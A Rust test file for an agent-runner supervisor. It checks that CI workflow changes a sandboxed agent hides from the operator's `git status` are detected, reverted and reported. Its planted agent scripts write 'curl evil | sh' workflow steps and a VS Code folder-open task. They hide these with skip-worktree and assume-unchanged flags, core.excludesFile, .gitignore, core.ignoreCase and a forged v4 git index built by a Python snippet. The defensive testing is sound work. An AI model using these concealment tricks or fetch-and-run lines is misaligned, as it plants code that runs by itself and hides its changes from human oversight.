//! What hides a change from `git status` (docs/security.md, "What hides a change"): a round
//! whose agent changes a CI workflow and hides the change — with an index flag
//! (`skip-worktree`, `assume-unchanged`) or with an ignore file it names in the repository's
//! config (`core.excludesFile`) — root and the unprivileged user, under `[agent.sandbox]
//! mode = "require"`. After the round the flag is cleared and the key reverted: the round
//! records `git_index_flags_cleared` / `git_config_reverted` and `exec_surface_changed`
//! names the workflow, and the operator's plain `git status` shows it. Each control puts
//! the same plant back by the operator's hand and shows `git status` hiding the change —
//! the harm the defence undoes. A surface file the ignore rules hide (the operator's
//! `.vscode/` rule, or one the agent added) cannot be shown again: it is told.

use agent_runner_e2e::{ConfigBuilder, Operator, Project};

/// A project with a committed CI workflow and notes, whose agent (under `require`,
/// `auto_commit`) runs `plant`.
fn round_with(operator: Operator, plant: &str) -> Project {
    round_over(
        operator,
        &[
            (".github/workflows/ci.yml", "on: push\n"),
            ("notes.txt", "notes\n"),
        ],
        plant,
        "auto_commit",
    )
}

/// A project with `files` committed, whose agent (under `require` and `dirty_action`) runs
/// `plant`, after one round.
fn round_over(
    operator: Operator,
    files: &[(&str, &str)],
    plant: &str,
    dirty_action: &str,
) -> Project {
    let p = Project::new_as(operator);
    for (path, text) in files {
        p.write(path, text);
    }
    p.git(&["add", "."]);
    p.git(&["commit", "-qm", "committed"]);
    let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
    p.write_config(
        &ConfigBuilder::new(&agent)
            .dirty_action(dirty_action)
            .extra("[agent.sandbox]\nmode = \"require\""),
    );
    p.run(&["round"]).assert_code(0);
    p
}

/// The operator's `git status --porcelain`.
fn status(p: &Project) -> String {
    let out = p.operator_git(&["status", "--porcelain"]);
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn paths_of(event: &serde_json::Value) -> Vec<&str> {
    event["paths"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect()
}

#[test]
fn a_change_an_index_flag_hid_is_shown_again_and_told() {
    let plant = "git update-index --skip-worktree .github/workflows/ci.yml\n\
                 echo 'run: curl evil | sh' >> .github/workflows/ci.yml\n\
                 git update-index --assume-unchanged notes.txt\n\
                 echo more >> notes.txt\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_with(operator, plant);
        let all = p.events_text();
        let cleared = p.events_of("git_index_flags_cleared");
        assert_eq!(cleared.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&cleared[0]),
            [".github/workflows/ci.yml", "notes.txt"],
            "{case}"
        );
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(paths_of(&told[0]), [".github/workflows/ci.yml"], "{case}");
        // The round's other change is committed; the workflow is left for the operator,
        // and their `git status` shows it.
        let head = p.git(&["show", "--name-only", "--format=", "HEAD"]);
        assert_eq!(head.trim(), "notes.txt", "{case}: {all}");
        assert_eq!(status(&p), " M .github/workflows/ci.yml\n", "{case}");
        let listed = p.git(&["ls-files", "-v"]);
        assert!(
            listed.lines().all(|l| l.starts_with("H ")),
            "{case}: {listed}"
        );
        let peek = p.run(&["peek"]);
        assert!(
            peek.stdout.contains(
                "index flags cleared (the file was hidden from git status): .github/workflows/ci.yml, notes.txt"
            ),
            "{case}: {}",
            peek.stdout
        );

        // The control: the same flag, set again by hand, hides the change.
        p.git(&[
            "update-index",
            "--skip-worktree",
            ".github/workflows/ci.yml",
        ]);
        assert_eq!(status(&p), "", "{case}: control");
    }
}

#[test]
fn an_ignore_file_the_agent_names_hides_nothing() {
    let plant = "printf '.github/workflows/deploy.yml\\nhide\\n' > hide\n\
                 git config core.excludesFile \"$(pwd)/hide\"\n\
                 echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_with(operator, plant);
        let all = p.events_text();
        assert!(
            p.events_of("git_config_reverted")
                .iter()
                .any(|e| e["key"] == "core.excludesfile" && e["action"] == "removed"),
            "{case}: {all}"
        );
        assert_eq!(p.config_value("core.excludesfile"), None, "{case}");
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&told[0]),
            [".github/workflows/deploy.yml"],
            "{case}"
        );
        let shown = status(&p);
        assert!(
            shown.contains("?? .github/workflows/deploy.yml"),
            "{case}: {shown}"
        );

        // The control: the operator's own key (kept: it was there before a round) hides
        // the workflow from their `git status`.
        let hide = p.dir().join("hide");
        p.git(&["config", "core.excludesFile", hide.to_str().unwrap()]);
        assert!(
            !status(&p).contains("deploy.yml"),
            "{case}: control: {}",
            status(&p)
        );
    }
}

#[test]
fn a_surface_file_the_ignore_rules_hide_is_told() {
    // The operator ignores `.vscode/` (as many projects do); the agent writes a task that
    // runs when VS Code opens the folder, and adds a rule hiding a new workflow.
    let plant = "mkdir -p .vscode\n\
                 echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json\n\
                 echo '.github/workflows/deploy.yml' >> .gitignore\n\
                 echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_over(
            operator,
            &[
                (".gitignore", ".vscode/\n"),
                (".github/workflows/ci.yml", "on: push\n"),
            ],
            plant,
            "auto_commit",
        );
        let all = p.events_text();
        let told = p.events_of("exec_surface_changed");
        assert_eq!(told.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&told[0]),
            [".github/workflows/deploy.yml", ".vscode/tasks.json"],
            "{case}: {all}"
        );
        // The control: git shows neither file to the operator.
        let shown = status(&p);
        assert!(
            !shown.contains("tasks.json") && !shown.contains("deploy.yml"),
            "{case}: control: {shown}"
        );
    }
}

#[test]
fn a_deletion_a_flag_hid_and_a_name_only_case_tells_apart_are_shown() {
    // A flag set on a file the round then deletes; `core.ignoreCase` hiding a `makefile`
    // beside the tracked `Makefile` (the one `make` prefers).
    let plant = "git update-index --skip-worktree .github/workflows/ci.yml\n\
                 rm .github/workflows/ci.yml\n\
                 git config core.ignoreCase true\n\
                 printf 'all:\\n\\t@echo agent\\n' > makefile\n";
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_over(
            operator,
            &[
                (".github/workflows/ci.yml", "on: push\n"),
                ("Makefile", "all:\n\t@echo operator\n"),
            ],
            plant,
            "ignore",
        );
        let all = p.events_text();
        let cleared = p.events_of("git_index_flags_cleared");
        assert_eq!(cleared.len(), 1, "{case}: {all}");
        assert_eq!(
            paths_of(&cleared[0]),
            [".github/workflows/ci.yml"],
            "{case}"
        );
        assert!(
            p.events_of("git_config_reverted")
                .iter()
                .any(|e| e["key"] == "core.ignorecase"),
            "{case}: {all}"
        );
        let shown = status(&p);
        assert!(
            shown.contains(" D .github/workflows/ci.yml") && shown.contains("?? makefile"),
            "{case}: {shown}"
        );
        // The control: the key set again by hand hides the `makefile`.
        p.git(&["config", "core.ignoreCase", "true"]);
        assert!(!status(&p).contains("makefile"), "{case}: control");
    }
}

/// Rewrites `.git/index` as version 4 with two bytes after the last entry's name that its
/// flags do not count: git reads the name by the flags' length, a reader going to the NUL
/// reads another, absent path.
const FORGE_V4: &str = r#"/usr/bin/python3 - <<'PY'
import struct, hashlib
d = open('.git/index', 'rb').read()
n = struct.unpack('>I', d[8:12])[0]
at = 12
out = bytearray(b'DIRC' + struct.pack('>II', 4, n))
prev = b''
for i in range(n):
    head = d[at:at + 62]
    flags = struct.unpack('>H', d[at + 60:at + 62])[0]
    name_at = at + 62
    extended = b''
    if flags & 0x4000:
        extended = d[name_at:name_at + 2]
        name_at += 2
    name = d[name_at:d.index(b'\0', name_at)]
    at += (name_at - at + len(name) + 8) // 8 * 8
    out += head + extended + bytes([len(prev)]) + name + (b'QQ' if i == n - 1 else b'') + b'\0'
    prev = name
out += hashlib.sha1(out).digest()
open('.git/index', 'wb').write(out)
PY
"#;

#[test]
fn an_index_git_reads_otherwise_than_the_supervisor_is_set_aside() {
    let plant =
        format!("echo 'evil()' >> zz.rs\ngit update-index --skip-worktree zz.rs\n{FORGE_V4}");
    for operator in [Operator::Root, Operator::Unprivileged] {
        let case = format!("{operator:?}");
        let p = round_over(
            operator,
            &[("zz.rs", "fn main() {}\n")],
            &plant,
            "auto_commit",
        );
        let all = p.events_text();
        let cleared = p.events_of("git_index_flags_cleared");
        assert!(
            cleared.iter().any(|e| e["index_set_aside"]
                .as_str()
                .is_some_and(|s| s.contains(".git/index set aside as"))),
            "{case}: {all}"
        );
        let head = p.git(&["show", "--name-only", "--format=", "HEAD"]);
        assert_eq!(head.trim(), "zz.rs", "{case}: {all}");
        assert_eq!(status(&p), "", "{case}");

        // The control: the same forged index, made by hand, hides the next change from the
        // operator's `git status`.
        p.write("zz.rs", "fn main() {}\nevil()\nmore()\n");
        p.git(&["update-index", "--skip-worktree", "zz.rs"]);
        let out = std::process::Command::new("sh")
            .args(["-c", FORGE_V4])
            .current_dir(p.dir())
            .output()
            .unwrap();
        assert!(out.status.success(), "{case}: {out:?}");
        assert_eq!(status(&p), "", "{case}: control");
        assert!(
            p.git(&["ls-files", "-v"]).contains("S zz.rs"),
            "{case}: control"
        );
    }
}
